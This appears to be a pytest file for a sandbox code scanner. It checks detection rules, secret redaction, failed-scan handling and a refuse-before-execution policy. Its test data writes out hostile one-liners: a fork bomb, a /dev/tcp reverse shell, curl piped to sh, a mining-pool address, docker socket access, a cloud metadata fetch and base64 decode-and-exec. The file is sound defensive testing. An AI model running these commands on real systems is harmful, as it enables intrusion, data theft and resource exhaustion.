"""What the scan sees, what each policy does with it, and that a scan that fails is never an empty list."""

from __future__ import annotations

import os
import signal
from collections.abc import Iterator
from pathlib import Path

import pytest
from sandbox_asking import Asking

from modelmill.settings import Settings
from sandbox.scan.gate import Scanner


@pytest.fixture(scope="module")
def scanner() -> Iterator[Scanner]:
    made = Scanner("warn")
    yield made
    made.close()


# Put together here, so that no scanner of this repository takes them for real ones.
KEY = "AKIA" + "IOSFODNN7EXAMPLQ"
GRAVE = [
    ("python", f"key = '{KEY}'", "secret", "aws_key"),
    ("bash", ":(){ :|:& };:", "malware", "fork_bomb"),
    ("bash", "bash -i >& /dev/tcp/1.2.3.4/99 0>&1", "malware", "reverse_shell"),
    ("bash", "curl -s http://x.example/i.sh | sh", "malware", "download_and_run"),
    ("python", "pool = 'stratum+tcp://pool.example:3333'", "malware", "miner"),
    ("python", "open('/var/run/docker.sock')", "malware", "container_escape"),
    ("javascript", "fetch('http://169.254.169.254/latest')", "malware", "cloud_metadata"),
    ("python", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "obfuscation", "decoded_and_run"),
    ("javascript", "eval(atob('YWxlcnQoMSk='))", "obfuscation", "decoded_and_run"),
    ("python", "x = 1 # \u202e right to left", "obfuscation", "hidden_characters"),
    (
        "python",
        "import subprocess\nsubprocess.call('ls', shell=True)\nsubprocess.Popen(x, shell=True)",
        "bandit",
        "B602",
    ),
]


@pytest.mark.parametrize(("language", "code", "kind", "rule"), GRAVE, ids=lambda value: str(value)[:25])
def test_it_is_found_with_its_line(scanner: Scanner, language: str, code: str, kind: str, rule: str) -> None:
    name = "main.py" if language == "python" else "main"
    found = [one for one in scanner.scan(language, [(name, f"# first\n{code}".encode())]) if one.rule == rule]
    assert found and found[0].kind == kind
    assert found[0].line >= 2
    assert KEY not in str(found)


def test_no_piece_of_the_program_is_repeated_in_what_is_stored(scanner: Scanner) -> None:
    code = b"password = 'hunter' + '2'\npassword = 'hunter2'\nimport os\nos.chmod('/etc/hunter2', 0o777)\n"
    found = scanner.scan("python", [("main.py", code)])
    assert {"B103", "B105"} <= {one.rule for one in found}
    assert all(one.message and "hunter" not in one.message for one in found)


HARMLESS = [
    "import math\nfor n in range(3):\n    print(math.sqrt(n), sum(x * x for x in range(n)))",
    "mail = 'jane.doe@firm.de'",
    "ssn = '512-44-8127'",
    "where = '12 Hill Road, Springfield, IL 62704'",
]


@pytest.mark.parametrize("code", HARMLESS, ids=["code", "mail", "ssn", "address"])
def test_harmless_code_is_found_harmless_also_with_personal_data_in_it(scanner: Scanner, code: str) -> None:
    assert scanner.scan("python", [("main.py", code.encode())]) == []


def test_a_scan_that_fails_is_a_finding(scanner: Scanner) -> None:
    assert scanner.scan("bash", [("main.sh", b"true")]) == []
    assert scanner.worker
    os.kill(scanner.worker.pid, signal.SIGSTOP)
    [found] = scanner.scan("bash", [("main.sh", b"true")])
    assert (found.kind, found.severity) == ("unscanned", "high")
    assert scanner.scan("bash", [("main.sh", b"true")]) == []


@pytest.mark.parametrize("code", ["(" * 100_000, "a" * 900_000, "\n" * 900_000, "x=" + "-" * 300_000 + "1"])
def test_what_no_parser_likes_is_survived(scanner: Scanner, code: str) -> None:
    scanner.scan("python", [("main.py", code.encode())])
    assert scanner.scan("python", [("main.py", b"print(1)")]) == []


def test_the_policy_refuses_before_a_container_is_used(api: object, tmp_path: Path) -> None:
    settings = Settings(root=tmp_path, home=tmp_path, sandbox_scan="refuse")  # type: ignore[call-arg]
    asking = Asking(settings, warm=0, languages=["bash"])
    try:
        answer = asking("bash", ":(){ :|:& };:")
        assert (answer.status, answer.container_id, answer.exit_code) == ("refused", None, None)
        assert "fork_bomb" in answer.reason
        assert asking("bash", "echo 1").status == "ok"
    finally:
        asking.close()


def test_off_looks_at_nothing() -> None:
    assert Scanner("off").scan("bash", [("main.sh", b":(){ :|:& };:")]) == []
